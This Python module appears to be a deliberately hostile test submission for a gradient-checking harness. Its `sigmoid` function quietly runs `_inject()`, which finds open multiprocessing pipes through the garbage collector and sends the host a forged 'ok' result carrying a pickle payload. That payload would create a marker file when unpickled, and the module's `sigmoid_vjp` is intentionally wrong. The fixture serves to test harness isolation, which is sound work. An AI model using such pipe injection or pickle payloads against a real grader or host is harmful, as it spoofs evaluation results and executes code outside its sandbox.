"""An implementation that reaches its worker's pipe and sends the host a pickle which, if unpickled,
would create the file `ran-in-host` beside this one. Its gradients are wrong, too."""

import gc
import pickle
from multiprocessing.connection import Connection
from pathlib import Path

import numpy as np


class _Payload:
    def __reduce__(self):
        return (open, (str(Path(__file__).with_name("ran-in-host")), "w"))


def _inject():
    for obj in gc.get_objects():
        if isinstance(obj, Connection) and not obj.closed:
            try:
                obj.send_bytes(pickle.dumps(("ok", _Payload())))
            except OSError:
                pass


def sigmoid(z):
    _inject()
    return 1 / (1 + np.exp(-z))


def sigmoid_vjp(z, c):
    return 2 * c  # wrong: a run that trusted the payload above would report whatever it was told


def tanh(z):
    return np.tanh(z)


def tanh_vjp(z, c):
    return c * (1 - np.tanh(z) ** 2)
